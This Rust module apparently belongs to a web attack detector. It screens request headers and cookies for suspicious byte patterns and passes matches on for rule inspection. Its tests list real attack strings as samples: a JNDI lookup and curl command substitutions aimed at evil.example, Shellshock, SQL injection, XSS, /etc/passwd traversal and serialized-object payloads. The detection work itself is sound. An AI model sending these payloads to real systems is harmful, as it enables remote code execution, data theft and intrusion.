//! Cookies and headers without a lane of their own that are worth a look.
//!
//! A browser sends a dozen such headers with every request, and next to none of them ever holds anything. So each
//! value is read once for a few telling bytes, and only a value that has them in the company that makes them telling is
//! written into a query of its own, which is then inspected like any other:
//!
//! ```text
//! accept: text/html,*/*;q=0.8       no telling byte                                         ──► nothing more
//! sec-ch-ua: "Not(A:Brand";v="8"    a bracket, but no call                                  ──► nothing more
//! x-api-version: ${jndi:ldap://a}   a brace behind a dollar                                 ──┐
//! cookie: a=1; id=1' or '1'='1      a quote; only the cookie `id`                           ──┴► /?x-api-version=${…&id=1'…
//! ```
//!
//! What is telling has no say in what an attack is: rules decide that, over the decoded values. It only has to hold
//! wherever an attack may, and rarely elsewhere. Values of headers of fewer than [`SHORTEST`] bytes are left alone, as half of
//! a browser's are; what a look-up, a statement or a function of a shell takes is more.

use crate::decoded::{bounded_split, split_pair};
use crate::event::View;
use crate::field::{Field, Lane};
use crate::inspect::Detection;
use crate::limits;

/// Which cookies and headers are inspected beside the target, the host, the User-Agent and the Referer.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Scope {
    /// None of them, but by rules that name them.
    Off,
    /// Those with telling bytes.
    #[default]
    Suspicious,
    /// All of them. Dear: each request is inspected twice.
    All,
}

/// Bytes of the shortest value of a header that is looked at.
const SHORTEST: usize = 16;

/// Whether the value of a header in this lane may have something telling. Never wrong about one that has; of those that
/// do not few pass.
#[inline]
pub fn may_be_telling(lane: Lane, value: &[u8]) -> bool {
    match lane {
        Lane::Cookie => block::cookie(value),
        _ => value.len() >= SHORTEST && block::header(value),
    }
}

/// The cookies and headers of a request that are worth a look, as a query.
#[derive(Debug, Default)]
pub struct Suspects {
    /// `/?` and their names and values.
    target: Vec<u8>,
    /// Their names, and what they are.
    names: Vec<(Field, Vec<u8>)>,
    /// Whether there were more than fit.
    is_cut: bool,
}

impl Suspects {
    /// Those among these headers, which the caller has bounded in number; `lane_of` says where a header belongs.
    pub fn of<'h>(
        headers: impl Iterator<Item = (&'h [u8], &'h [u8])>,
        scope: Scope,
        lane_of: impl Fn(&[u8]) -> Option<Lane>,
    ) -> Suspects {
        let mut suspects = Suspects::default();
        for (name, value) in headers {
            let value = match value.get(..limits::FIELD_BYTES) {
                Some(start) if start.len() < value.len() => {
                    suspects.is_cut |= lane_of(name).is_some();
                    start
                }
                _ => value,
            };
            match lane_of(name) {
                Some(Lane::Cookie) if scope == Scope::All || block::cookie(value) => {
                    for cookie in bounded_split(value, b';', &mut false) {
                        let cookie = cookie.trim_ascii_start();
                        if scope == Scope::All || is_telling(cookie, true) {
                            let (name, value) = split_pair(cookie);
                            suspects.add(Field::CookieValue, name.unwrap_or_default(), value);
                        }
                    }
                }
                Some(Lane::Header)
                    if scope == Scope::All
                        || may_be_telling(Lane::Header, value) && is_telling(value, false) =>
                {
                    suspects.add(Field::Header, name, value);
                }
                _ => {}
            }
        }
        suspects
    }

    fn add(&mut self, field: Field, name: &[u8], value: &[u8]) {
        if self.target.len() >= limits::FIELD_BYTES || self.names.len() == limits::NAMED_VALUES {
            self.is_cut = true;
            return;
        }
        let separator: &[u8] = match self.names.is_empty() {
            true => b"/?",
            false => b"&",
        };
        self.target.extend_from_slice(separator);
        self.write(name, b'=');
        self.target.push(b'=');
        self.write(value, b'&');
        self.names.push((field, name.to_vec()));
    }

    /// Writes a text so that it is read from the query as it stands here, as far as it fits.
    fn write(&mut self, text: &[u8], separator: u8) {
        for &byte in text {
            if self.target.len() >= limits::FIELD_BYTES {
                self.is_cut = true;
                return;
            }
            match byte {
                b'&' => self.target.extend_from_slice(b"%26"),
                b'+' => self.target.extend_from_slice(b"%2B"),
                b'#' => self.target.extend_from_slice(b"%23"),
                b';' => self.target.extend_from_slice(b"%3B"),
                b'=' if separator == b'=' => self.target.extend_from_slice(b"%3D"),
                _ => self.target.push(byte),
            }
        }
    }

    /// The request target that holds them; none if there are none.
    pub fn target(&self) -> Option<&[u8]> {
        (!self.names.is_empty()).then_some(self.target.as_slice())
    }

    /// Whether there were more than fit into the target.
    pub fn is_cut(&self) -> bool {
        self.is_cut
    }

    /// Names what was found in the target for what it is. False for what rests on something else, which does not count.
    pub fn name_field(&self, detection: &mut Detection) -> bool {
        let Some(evidence) = &mut detection.evidence else {
            return false;
        };
        let whole = match evidence.field {
            Field::CommandLine => return true,
            Field::QueryValue => false,
            Field::Uri | Field::UriQuery => true,
            _ => return false,
        };
        let named = |(_, name): &&(Field, Vec<u8>)| *name == evidence.name;
        let known = match self.names.as_slice() {
            [only] => Some(only),
            several => several.iter().find(named).filter(|_| !whole),
        };
        match known {
            Some((field, name)) => {
                evidence.field = *field;
                evidence.name.clone_from(name);
            }
            // One of several: which of them, a whole does not say.
            None => evidence.field = Field::Header,
        }
        if whole && evidence.view == View::Raw {
            // Where in the target is where in the value only by accident.
            evidence.offset = 0;
        }
        true
    }
}

/// Whether a cookie or a header's value has a telling byte in the company that makes it one.
fn is_telling(text: &[u8], is_cookie: bool) -> bool {
    (0..text.len()).any(|at| is_telling_at(text, at, is_cookie))
}

fn is_telling_at(text: &[u8], at: usize, is_cookie: bool) -> bool {
    let (before, rest) = text.split_at_checked(at).unwrap_or_default();
    let Some((byte, after)) = rest.split_first() else {
        return false;
    };
    let last = before.last().copied().unwrap_or_default();
    let next = after.first().copied().unwrap_or_default();
    match byte {
        b'\'' | b'`' => true,
        // A tag, a comment, an instruction.
        b'<' => next.is_ascii_alphabetic() || b"/!?%".contains(&next),
        // `${`, `{{`, `{%`, `#{`, `) {`, an object of PHP, an operator or prototype in JSON.
        b'{' => {
            b"$#%@{*".contains(&last)
                || b"{%#$".contains(&next)
                || before.trim_ascii_end().ends_with(b")")
                || matches!(before, [.., b'0'..=b'9', b':'])
                || matches!(after, [b'"', b'$' | b'_', ..] | [b' ', b'$', ..])
        }
        // A call with an argument, or a query within a query.
        b'(' => {
            (last.is_ascii_alphanumeric() || b"$_)".contains(&last))
                && (next.is_ascii_digit() || b"'\"()@$".contains(&next))
                || last == b'$'
                || b"|&!".contains(&next)
                || starts_with_word(after, &["select"])
        }
        b'"' if is_cookie => b" )+->|".contains(&next),
        b'*' if is_cookie => last == b'/',
        b'&' if !is_cookie => next == b'&',
        b'%' => is_telling_escape(before, after),
        b'/' if is_cookie => after.starts_with(b"etc/"),
        b'p' if is_cookie => last.eq_ignore_ascii_case(&b'h') && after.starts_with(b"://"),
        b'.' if is_cookie => {
            next == b'.'
                && (matches!(after, [_, b'/' | b'\\', ..]) || after.get(1..).is_some_and(is_slash))
        }
        b' ' if is_cookie => last != b';' && starts_with_word(after, &WORDS),
        // The beginnings of serialised objects of Java, PHP and Python in Base64.
        b'r' if is_cookie => after.starts_with(b"O0AB"),
        b'T' if is_cookie => after.starts_with(b"zo") && after.len() > 8,
        b'g' if is_cookie => matches!(after, [b'A', b'S', b'V', ..]) && after.len() > 8,
        _ => false,
    }
}

/// Words with which a condition or a query goes on.
const WORDS: [&str; 8] = [
    "or ",
    "and ",
    "union ",
    "select ",
    "having ",
    "order by ",
    "||",
    "&&",
];

fn starts_with_word(text: &[u8], words: &[&str]) -> bool {
    words.iter().any(|word| {
        text.get(..word.len())
            .is_some_and(|start| start.eq_ignore_ascii_case(word.as_bytes()))
    })
}

/// Whether a text begins with an encoded slash.
fn is_slash(text: &[u8]) -> bool {
    let digits = text.strip_prefix(b"%").map(decoded_once);
    digits.is_some_and(|digits| matches!(digits, [b'2', b'f' | b'F', ..] | [b'5', b'c' | b'C', ..]))
}

/// What stands behind a percent sign, were it not encoded itself: `27` of `2527`.
fn decoded_once(digits: &[u8]) -> &[u8] {
    let mut digits = digits;
    for _ in 1..limits::DECODE_ROUNDS {
        let Some(inner) = digits.strip_prefix(b"25") else {
            break;
        };
        digits = inner;
    }
    digits
}

/// Whether what follows a percent sign stands for a telling byte.
fn is_telling_escape(before: &[u8], after: &[u8]) -> bool {
    let Some((pair, rest)) = decoded_once(after).split_first_chunk::<2>() else {
        return false;
    };
    match &pair.map(|byte| byte.to_ascii_lowercase()) {
        b"27" | b"3c" | b"60" | b"00" | b"0a" | b"0d" | b"c0" | b"c1" => true,
        [b'u', b'0' | b'f' | b'2'] => true,
        // `${`, `$(`.
        b"24" => starts_with_word(rest, &["%7b", "{", "%28", "("]),
        b"7b" => {
            let is_operator = |rest: &[u8]| {
                matches!(rest, [b'%', b'7', b'B' | b'b', ..] | [b'%', b'2', b'5', ..])
                    || matches!(rest, [b'%', b'2', b'2', b'$' | b'_', ..])
                    || starts_with_word(rest, &["%22%24", "%22%5f", "%20%24"])
            };
            is_operator(rest)
        }
        // A call with an argument.
        b"28" => {
            matches!(rest, [b'0'..=b'9' | b'\'' | b'"' | b')', ..])
                || matches!(rest, [b'%', b'2', b'1' | b'2' | b'4' | b'6'..=b'9', ..])
                || starts_with_word(rest, &["%7c"])
                || starts_with_word(rest, &["select"])
        }
        b"2e" => {
            matches!(rest, [b'.', ..])
                || matches!(rest, [b'%', b'2', b'e' | b'E', ..])
                || before.ends_with(b".")
        }
        b"2f" => before.ends_with(b"..") || starts_with_word(rest, &["*", "%2a", "etc%2f", "etc/"]),
        b"5c" => before.ends_with(b".."),
        b"20" => starts_with_escaped_word(rest),
        b"22" => matches!(
            rest,
            [b'%', b'2', b'0', ..] | [b'%', b'3', b'E' | b'e', ..] | [b'>' | b' ', ..]
        ),
        // `O:8:"…`, `a:1:{`: an object or a list of PHP.
        b"3a" => {
            let wrapper = before.ends_with(b"php") || before.ends_with(b"phar");
            if wrapper && starts_with_word(rest, &["%2f%2f", "//"]) {
                return true;
            }
            let rest = rest.strip_prefix(b"%2B").unwrap_or(rest);
            let digits = rest.iter().take_while(|byte| byte.is_ascii_digit()).count();
            let kind = before.last().copied().unwrap_or_default();
            digits > 0
                && b"OCa".contains(&kind)
                && rest
                    .get(digits..)
                    .is_some_and(|rest| starts_with_word(rest, &["%3a", ":"]))
                && !matches!(before, [.., b'0'..=b'9' | b'A'..=b'Z' | b'a'..=b'z', _])
        }
        _ => false,
    }
}

/// The same of words between encoded spaces.
fn starts_with_escaped_word(text: &[u8]) -> bool {
    const ESCAPED: [&str; 7] = [
        "or%20",
        "and%20",
        "union%20",
        "select%20",
        "having%20",
        "order%20by",
        "%7c%7c",
    ];
    starts_with_word(text, &ESCAPED)
}

/// The quick look: single bytes of the low half of a table, sixteen at a time where the machine can.
mod block {
    /// For each low half of a byte the telling one of a header, or a byte that is not of this half.
    const HEADER: [u8; 16] = table(b"'<{(`%&");
    /// The same of a cookie.
    const COOKIE: [u8; 16] = table(LAST);
    const LAST: &[u8] = b"'<{(`%\"*";
    /// Two bytes that tell in a cookie, by the low half of the first one.
    const PAIRS: [[u8; 2]; 6] = [*b"..", *b"rO", *b"Tz", *b"gA", *b"/e", *b"p:"];
    const FIRST: [u8; 16] = pairs(0);
    const SECOND: [u8; 16] = pairs(1);

    const fn table(bytes: &[u8]) -> [u8; 16] {
        // Never equal to the byte that is looked up: the low half of each entry is that of another row.
        let mut table = [1; 16];
        table[1] = 0;
        let mut at = 0;
        while at < bytes.len() {
            table[(bytes[at] & 15) as usize] = bytes[at];
            at += 1;
        }
        table
    }

    const fn pairs(which: usize) -> [u8; 16] {
        let mut table = [1; 16];
        table[1] = 0;
        let mut at = 0;
        while at < PAIRS.len() {
            table[(PAIRS[at][0] & 15) as usize] = PAIRS[at][which];
            at += 1;
        }
        table
    }

    #[cfg(not(all(target_arch = "wasm32", target_feature = "simd128")))]
    pub use plain::{cookie, header};
    #[cfg(all(target_arch = "wasm32", target_feature = "simd128"))]
    pub use simd::{cookie, header};

    /// A byte at a time.
    #[cfg(any(test, not(all(target_arch = "wasm32", target_feature = "simd128"))))]
    pub mod plain {
        use super::{COOKIE, FIRST, HEADER, SECOND};

        fn at(table: &[u8; 16], byte: u8) -> u8 {
            table.get(usize::from(byte & 15)).copied().unwrap_or(byte)
        }

        pub fn header(value: &[u8]) -> bool {
            value.iter().any(|&byte| at(&HEADER, byte) == byte)
        }

        pub fn cookie(value: &[u8]) -> bool {
            value.iter().any(|&byte| at(&COOKIE, byte) == byte)
                || value.windows(2).any(|pair| {
                    let [one, two] = *pair else { return false };
                    at(&FIRST, one) == one && at(&SECOND, one) == two || two == b' ' && one != b';'
                })
        }
    }

    /// Sixteen bytes at a time.
    #[cfg(all(target_arch = "wasm32", target_feature = "simd128"))]
    mod simd {
        use core::arch::wasm32::*;

        use super::{COOKIE, FIRST, HEADER, SECOND};
        use crate::normalise::load;

        #[inline]
        fn telling(table: v128, bytes: v128, low: v128) -> v128 {
            u8x16_eq(u8x16_swizzle(table, low), bytes)
        }

        /// The value has sixteen bytes or more. Blocks of sixteen, two at a time, and the last one over what is left.
        #[inline]
        pub fn header(value: &[u8]) -> bool {
            let table = load(&HEADER);
            let look = |block: &[u8; 16]| {
                let bytes = load(block);
                telling(table, bytes, v128_and(bytes, u8x16_splat(15)))
            };
            let (Some(first), Some(last)) = (value.first_chunk::<16>(), value.last_chunk::<16>())
            else {
                return true;
            };
            let mut seen = v128_or(look(first), look(last));
            let mut rest = value;
            while let Some((_, two)) = rest.split_first_chunk::<16>()
                && let Some(two) = two.first_chunk::<32>()
                && let (Some(one), Some(two)) = (two.first_chunk(), two.last_chunk())
            {
                seen = v128_or(v128_or(seen, look(one)), look(two));
                rest = rest.get(32..).unwrap_or_default();
            }
            if let Some(block) = rest.get(16..).and_then(|rest| rest.first_chunk()) {
                seen = v128_or(seen, look(block));
            }
            v128_any_true(seen)
        }

        /// The same, each byte with the one behind it.
        #[inline]
        pub fn cookie(value: &[u8]) -> bool {
            let (table, first, second) = (load(&COOKIE), load(&FIRST), load(&SECOND));
            let look = |block: &[u8; 17]| {
                let (Some(one), Some(two)) = (block.first_chunk(), block.last_chunk()) else {
                    return u8x16_splat(0);
                };
                let (one, two) = (load(one), load(two));
                let low = v128_and(one, u8x16_splat(15));
                let pair = v128_and(
                    telling(first, one, low),
                    u8x16_eq(u8x16_swizzle(second, low), two),
                );
                let blank = v128_andnot(
                    u8x16_eq(two, u8x16_splat(b' ')),
                    u8x16_eq(one, u8x16_splat(b';')),
                );
                v128_or(v128_or(telling(table, one, low), pair), blank)
            };
            let (Some(start), Some(last)) = (value.first_chunk::<17>(), value.last_chunk::<17>())
            else {
                // A short one is rare, and may as well be looked at whole.
                return true;
            };
            let mut seen = v128_or(look(start), look(last));
            let mut rest = value;
            while let Some((_, two)) = rest.split_first_chunk::<16>()
                && let Some(two) = two.first_chunk::<33>()
                && let (Some(one), Some(two)) = (two.first_chunk(), two.last_chunk())
            {
                seen = v128_or(v128_or(seen, look(one)), look(two));
                rest = rest.get(32..).unwrap_or_default();
            }
            if let Some(block) = rest.get(16..).and_then(|rest| rest.first_chunk()) {
                seen = v128_or(seen, look(block));
            }
            // The last byte begins no pair, and was looked at as the second of one only.
            v128_any_true(seen) || value.last().is_some_and(|last| super::LAST.contains(last))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn passes(name: &str, value: &str) -> bool {
        let lane = |name: &[u8]| match name {
            b"cookie" => Some(Lane::Cookie),
            _ => Some(Lane::Header),
        };
        let headers = [(name.as_bytes(), value.as_bytes())];
        let quick = may_be_telling(
            lane(name.as_bytes()).unwrap_or(Lane::Header),
            value.as_bytes(),
        );
        let suspects = Suspects::of(headers.into_iter(), Scope::Suspicious, lane);
        let exact = suspects.target().is_some();
        assert!(quick || !exact, "{name}: {value}");
        exact
    }

    #[test]
    fn attacks_are_telling() {
        for value in [
            "${jndi:ldap://evil.example/a}",
            "() { :;}; /bin/id",
            "{{7*7}}{{8*8}}{{9*9}}",
            "%{(#a=1).(#b=2)}",
            "<script>alert(1)</script>",
            "1.1.1.1' and sleep(5)--",
            "1) or sleep(5)#--",
            "$(curl evil.example)",
            "`curl evil.example`",
            "x;(select 1 from dual)",
            "127.0.0.1 && ls /etc",
            "1%27%20and%20sleep(5)",
        ] {
            assert!(passes("x-forwarded-for", value), "{value}");
        }
        for value in [
            "id=1' or '1'='1",
            "a=b; id=1%27%20or%201=1",
            "id=1%2527",
            "id=1 or 1=1",
            "id=1%20union%20select%201",
            "id=1/**/or/**/1",
            "id=-1\" or \"\"=\"",
            "q=<svg onload=alert(1)>",
            "q=%3Csvg%20onload=alert(1)%3E",
            "f=../../../etc/passwd",
            "f=..%2f..%2fetc%2fpasswd",
            "f=%2e%2e/%2e%2e/etc/passwd",
            "f=....//....//etc/passwd",
            "s=rO0ABXNyABFqYXZhLnV0aWw",
            "s=O:8:\"stdClass\":0:{}",
            "s=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D",
            "s=a%3A1%3A%7Bi%3A0%3BO%3A8%3A%22X%22%3A0%3A%7B%7D%7D",
            "s=Tzo4OiJzdGRDbGFzcyI6MDp7fQ",
            "s=gASVJAAAAAAAAACMBXBvc2l4",
            "u=%7B%22%24ne%22%3A1%7D",
            "u={\"$gt\":\"\"}",
            "x=%24%7Bjndi:ldap://a/b%7D",
            "q=1;b=sleep(5)",
            "lang=/etc/passwd",
            "lang=%2Fetc%2Fpasswd",
            "page=php://filter/resource=x",
        ] {
            assert!(passes("cookie", value), "{value}");
        }
    }

    #[test]
    fn ordinary_headers_and_cookies_are_not() {
        for (name, value) in [
            ("sec-ch-ua", r#""Chromium";v="141", "Not(A:Brand";v="8""#),
            (
                "sec-ch-ua",
                r#"" Not A;Brand";v="99", "Not)A;Brand";v="24""#,
            ),
            ("accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
            (
                "via",
                "1.1 varnish (Varnish/6.0), 1.1 a1b2.cloudfront.net (CloudFront)",
            ),
            (
                "traceparent",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
            ),
            (
                "authorization",
                "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk",
            ),
            (
                "authorization",
                r#"Digest username="joe", realm="a b", nonce="x==", uri="/dir/""#,
            ),
            (
                "content-type",
                "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
            ),
            (
                "forwarded",
                r#"for="[2001:db8::1]:4711";proto=https;by=203.0.113.43"#,
            ),
            ("if-none-match", r#"W/"5e15153d-120f""#),
            ("x-app", r#"{"version":"1.2","os":"ios"}"#),
            (
                "x-device",
                "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP1A.240505.004)",
            ),
            (
                "cookie",
                "_ga=GA1.2.123.456; _ga_X=GS2.1.s17$o1$g1$t17$j60$l0$h0; theme=light",
            ),
            (
                "cookie",
                "OptanonConsent=isGpcEnabled=0&datestamp=Tue+Apr+02+2024+10%3A11%3A12+GMT%2B0200+(Mitteleurop%C3%A4ische+Sommerzeit)&version=202401.1.0&groups=C0001%3A1%2CC0002%3A0",
            ),
            (
                "cookie",
                "mp=%7B%22distinct_id%22%3A%20%2218c%22%2C%22%24device_id%22%3A%20%2218c%22%7D",
            ),
            (
                "cookie",
                r#"prefs={"theme":"dark","n":[1,2],"o":{"a":1}}; s=YWJjZGVm+/gh=="#,
            ),
            (
                "cookie",
                "__utmz=1.2.3.4.utmcsr=google|utmccn=(organic)|utmcmd=organic",
            ),
            (
                "cookie",
                "jwt=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x; city=M%C3%BCnchen%20Nord",
            ),
        ] {
            assert!(!passes(name, value), "{name}: {value}");
        }
    }

    #[test]
    fn values_stand_in_the_target_as_they_are() {
        let lane = |_: &[u8]| Some(Lane::Cookie);
        let cookie: &[u8] = b"a=b; id=1'&2+3;4=5";
        let headers = [(&b"cookie"[..], cookie)];
        let suspects = Suspects::of(headers.into_iter(), Scope::Suspicious, lane);
        assert_eq!(suspects.target(), Some(&b"/?id=1'%262%2B3"[..]));
        let all = Suspects::of(headers.into_iter(), Scope::All, lane);
        assert_eq!(all.target(), Some(&b"/?a=b&id=1'%262%2B3&4=5"[..]));
    }
}
